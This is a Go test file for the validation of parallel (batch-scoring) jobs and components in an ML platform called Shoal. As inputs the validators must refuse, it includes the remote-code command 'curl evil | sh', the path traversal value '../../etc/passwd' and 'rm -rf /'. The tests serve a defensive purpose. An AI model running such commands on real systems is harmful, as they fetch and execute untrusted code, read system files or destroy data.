package paralleljob_test

import (
	"strings"
	"testing"

	"github.com/shoal-ml/shoal/domain/core"
	"github.com/shoal-ml/shoal/domain/core/coretest"
	"github.com/shoal-ml/shoal/domain/job"
	"github.com/shoal-ml/shoal/domain/job/paralleljob"
)

// scoring is the job a batch endpoint's invocation builds: a folder of
// files scored by score.py, the rows appended to predictions.csv in the
// score output, the model an input of its own.
func scoring() *job.JobSpec {
	return &job.JobSpec{
		Type: job.JobTypeCommand, Compute: "cpu-cluster", Code: "sha256:" + strings.Repeat("c", 64),
		Command: job.ParallelCommand(""),
		Inputs: map[string]*job.JobInput{
			"input_data": {Type: "uri_folder", Path: "azureml://datastores/workspaceblobstore/paths/in/"},
			"model":      {Type: "custom_model", Path: "azureml:iris:1"},
		},
		Outputs:  map[string]*job.JobOutput{"score": {Type: "uri_folder"}},
		Parallel: &job.ParallelSpec{InputData: "${{inputs.input_data}}", EntryScript: "score.py", AppendRowTo: "${{outputs.score}}", AppendRowFile: "predictions.csv", ModelInput: "model"},
	}
}

func TestValidateScoringJob(t *testing.T) {
	if err := paralleljob.Validate(scoring()); err != nil {
		t.Fatal(err)
	}
	if err := paralleljob.Validate(&job.JobSpec{Command: "echo any"}); err != nil {
		t.Errorf("a job without parallel settings: %v", err)
	}
	s := scoring()
	s.Parallel.AppendRowTo, s.Parallel.AppendRowFile = "", ""
	if err := paralleljob.Validate(s); err != nil {
		t.Errorf("summary_only (no rows kept): %v", err)
	}
}

// A job with parallel settings is refused, naming the field, for each
// of these; the first ones are attacks: a command of its own would run
// with the driver's ledger token in its environment, a file name with
// folders would write outside the output.
func TestValidateRefusals(t *testing.T) {
	for _, tc := range []struct {
		name, field, msg string
		change           func(s *job.JobSpec)
	}{
		{"a command of its own", "command", "Shoal's driver", func(s *job.JobSpec) { s.Command = "curl evil | sh" }},
		{"arguments not the command's", "command", "Shoal's driver", func(s *job.JobSpec) { s.Parallel.ProgramArguments = "--x 1" }},
		{"append file with folders", "append_row_file", "file name", func(s *job.JobSpec) { s.Parallel.AppendRowFile = "../../etc/passwd" }},
		{"append file dot-dot", "append_row_file", "file name", func(s *job.JobSpec) { s.Parallel.AppendRowFile = ".." }},
		{"append file backslash", "append_row_file", "file name", func(s *job.JobSpec) { s.Parallel.AppendRowFile = `a\b.csv` }},
		{"entry script escapes", "task.entry_script", "leaves the folder", func(s *job.JobSpec) { s.Parallel.EntryScript = "a/../../b.py" }},
		{"distribution", "distribution", "no distribution", func(s *job.JobSpec) { s.Distribution = &job.Distribution{Type: "mpi"} }},
		{"no code", "task.code", "is required", func(s *job.JobSpec) { s.Code = "" }},
		{"input_data names nothing", "input_data", "not declared", func(s *job.JobSpec) { s.Parallel.InputData = "${{inputs.x}}" }},
		{"input_data a model", "input_data", "custom_model", func(s *job.JobSpec) { s.Parallel.InputData = "${{inputs.model}}" }},
		{"input_data a value", "input_data", "literal", func(s *job.JobSpec) {
			s.Inputs["n"] = &job.JobInput{Value: 3}
			s.Parallel.InputData = "${{inputs.n}}"
		}},
		{"input_data with a dot", "input_data", "${{inputs.<name>}}", func(s *job.JobSpec) { s.Parallel.InputData = "${{inputs.a.b}}" }},
		{"uri_folder rows without a file", "append_row_file", "is required", func(s *job.JobSpec) { s.Parallel.AppendRowFile = "" }},
		{"uri_file rows with a file", "append_row_file", "must be empty", func(s *job.JobSpec) { s.Outputs["score"].Type = "uri_file" }},
		{"a file without rows", "append_row_file", "not set", func(s *job.JobSpec) { s.Parallel.AppendRowTo = "" }},
		{"model names nothing", "model_input", "data inputs", func(s *job.JobSpec) { s.Parallel.ModelInput = "nope" }},
		{"table size for files is fine, words are not", "mini_batch_size", "", func(s *job.JobSpec) { s.Parallel.MiniBatchSize = "lots" }},
		{"concurrency", "max_concurrency_per_instance", "from 1 to", func(s *job.JobSpec) { s.Parallel.MaxConcurrencyPerInstance = -3 }},
		{"retries", "retry_settings.max_retries", "from 0 to", func(s *job.JobSpec) { s.Parallel.Retry = &job.ParallelRetry{MaxRetries: ptr(1000)} }},
		{"timeout", "retry_settings.timeout", "seconds", func(s *job.JobSpec) { s.Parallel.Retry = &job.ParallelRetry{Timeout: -1} }},
		{"threshold", "mini_batch_error_threshold", "-1", func(s *job.JobSpec) { s.Parallel.MiniBatchErrorThreshold = ptr(-5) }},
		{"logging level not canonical", "logging_level", "Python's", func(s *job.JobSpec) { s.Parallel.LoggingLevel = "debug" }},
		{"partition keys on files", "partition_keys", "mltable", func(s *job.JobSpec) { s.Parallel.PartitionKeys = []string{"a"} }},
		{"partition key blank", "partition_keys[0]", "column name", func(s *job.JobSpec) {
			s.Inputs["input_data"].Type = "mltable"
			s.Parallel.PartitionKeys = []string{" "}
		}},
		{"too many partition keys", "partition_keys", "more than", func(s *job.JobSpec) {
			s.Inputs["input_data"].Type = "mltable"
			for i := 0; i <= paralleljob.MaxPartitionKeys; i++ {
				s.Parallel.PartitionKeys = append(s.Parallel.PartitionKeys, "k"+strings.Repeat("x", i))
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := scoring()
			tc.change(s)
			coretest.WantFieldError(t, paralleljob.Validate(s), tc.field, tc.msg)
		})
	}
}

func ptr(n int) *int { return &n }

// A table's mini_batch_size is a size; a folder's a number of files,
// and a size there is taken too (the driver reads it as bytes of files).
func TestValidateMiniBatchSize(t *testing.T) {
	for _, tc := range []struct {
		typ, size string
		ok        bool
	}{{"uri_folder", "10", true}, {"mltable", "100mb", true}, {"mltable", "10", true}, {"uri_folder", "0", false}, {"mltable", "-1kb", false}, {"uri_folder", "2000000", false}} {
		s := scoring()
		s.Inputs["input_data"].Type = tc.typ
		s.Parallel.MiniBatchSize = tc.size
		if err := paralleljob.Validate(s); (err == nil) != tc.ok {
			t.Errorf("%s mini_batch_size %q: %v", tc.typ, tc.size, err)
		}
	}
}

// A registered parallel component is decoded from Azure's
// parallelComponent YAML; a command component is decoded as before.
func TestDecodeComponent(t *testing.T) {
	c, err := paralleljob.DecodeComponent([]byte(`{"type":"parallel","name":"score","version":1,
		"inputs":{"data":{"type":"uri_folder"},"k":{"type":"integer","default":3}},"outputs":{"rows":{"type":"uri_file"}},
		"input_data":"${{inputs.data}}","mini_batch_size":5,"logging_level":"warn","resources":{"instance_count":2},
		"task":{"type":"run_function","code":"./src","entry_script":"score.py","environment":"azureml:sklearn:1",
		"program_arguments":"--k ${{inputs.k}}","append_row_to":"${{outputs.rows}}"}}`), "")
	if err != nil {
		t.Fatal(err)
	}
	if err := paralleljob.NormalizeComponent(c, true); err != nil {
		t.Fatal(err)
	}
	p := c.Parallel
	if c.Type != job.ComponentTypeParallel || c.Command != job.ParallelCommand("--k ${{inputs.k}}") || c.Code != "./src" || c.Version != "1" ||
		c.Resources.InstanceCount != 2 || p.MiniBatchSize != "5" || p.LoggingLevel != "WARNING" || p.EntryScript != "score.py" {
		t.Errorf("component %+v parallel %+v", c, p)
	}
	cmd, err := paralleljob.DecodeComponent([]byte(`{"type":"command","name":"t","command":"echo"}`), "")
	if err != nil || cmd.Parallel != nil || cmd.Command != "echo" {
		t.Errorf("a command component: %+v, %v", cmd, err)
	}
	for _, tc := range []struct{ doc, field, msg string }{
		{`{"type":"parallel","name":"s","input_data":"${{inputs.d}}","command":"rm -rf /","task":{"entry_script":"s.py","code":"."}}`, "", ""},
		{`{"type":"parallel","name":"s","input_data":"${{inputs.d}}","distribution":{"type":"mpi"},"task":{"entry_script":"s.py","code":"."}}`, "distribution", "unknown key"},
		{`{"type":"parallel","name":"s","input_data":"${{inputs.d}}","task":{"entry_script":"s.py","code":".","command":"x"}}`, "task.command", "unknown key"},
		{`{"type":"parallel","name":"s","input_data":"${{inputs.d}}"}`, "task", "is required"},
		{`{"type":"parallel","name":"s","input_data":"${{inputs.d}}","task":{"entry_script":"s.py","code":".","environment":7}}`, "task.environment", ""},
	} {
		_, err := paralleljob.DecodeComponent([]byte(tc.doc), "")
		if tc.field == "" {
			// command is what a shown component carries: ignored on
			// input, the command stays the driver's.
			c, err := paralleljob.DecodeComponent([]byte(tc.doc), "")
			if err != nil || c.Command != job.ParallelCommand("") {
				t.Errorf("%s: %+v, %v", tc.doc, c, err)
			}
			continue
		}
		coretest.WantFieldError(t, err, tc.field, tc.msg)
	}
}

// A registered parallel component's settings are checked against its
// declared inputs and outputs.
func TestCheckComponentRefusals(t *testing.T) {
	base := func() *job.Component {
		return &job.Component{Type: job.ComponentTypeParallel, Name: "s", Command: job.ParallelCommand(""),
			Inputs:   map[string]*job.ComponentInput{"d": {Type: "mltable"}, "n": {Type: "integer"}},
			Outputs:  map[string]*job.ComponentOutput{"o": {Type: "uri_folder"}, "m": {Type: "mlflow_model"}},
			Parallel: &job.ParallelSpec{InputData: "${{inputs.d}}", EntryScript: "s.py", AppendRowTo: "${{outputs.o}}", PartitionKeys: []string{"a"}}}
	}
	if err := paralleljob.CheckComponent(base()); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		field, msg string
		change     func(c *job.Component)
	}{
		{"input_data", "literal", func(c *job.Component) { c.Parallel.InputData = "${{inputs.n}}" }},
		{"task.append_row_to", "mlflow_model", func(c *job.Component) { c.Parallel.AppendRowTo = "${{outputs.m}}" }},
		{"type", "parallel settings", func(c *job.Component) { c.Parallel = nil }},
	} {
		c := base()
		tc.change(c)
		coretest.WantFieldError(t, paralleljob.CheckComponent(c), tc.field, tc.msg)
	}
	if core.ErrorCode(paralleljob.CheckComponent(nil)) != core.EINVALID {
		t.Error("a nil component is not refused")
	}
}

// A job document cannot make itself parallel: the settings come only
// from a pipeline's parallel step or a batch endpoint's invoke (which
// build the driver's command), so a command job written with them is
// refused as Azure refuses the key.
func TestCommandJobCannotClaimParallel(t *testing.T) {
	_, err := job.DecodeJobSpec([]byte(`{"command":"curl evil | sh","compute":"cpu","parallel":{"input_data":"${{inputs.d}}","entry_script":"s.py"}}`))
	coretest.WantFieldError(t, err, "parallel", "unknown key")
}

// The names the ledger, the driver and the invoke read from a job's
// settings, in any spacing.
func TestInputAndRowsOutputNames(t *testing.T) {
	p := &job.ParallelSpec{InputData: "${{ inputs.input_data }}", AppendRowTo: "${{outputs.score}}"}
	if n, ok := paralleljob.InputName(p); !ok || n != "input_data" {
		t.Errorf("InputName = %q, %v", n, ok)
	}
	if n, ok := paralleljob.RowsOutputName(p); !ok || n != "score" {
		t.Errorf("RowsOutputName = %q, %v", n, ok)
	}
	if _, ok := paralleljob.RowsOutputName(&job.ParallelSpec{}); ok {
		t.Error("no append_row_to names an output")
	}
	if _, ok := paralleljob.InputName(nil); ok {
		t.Error("nil settings name an input")
	}
}
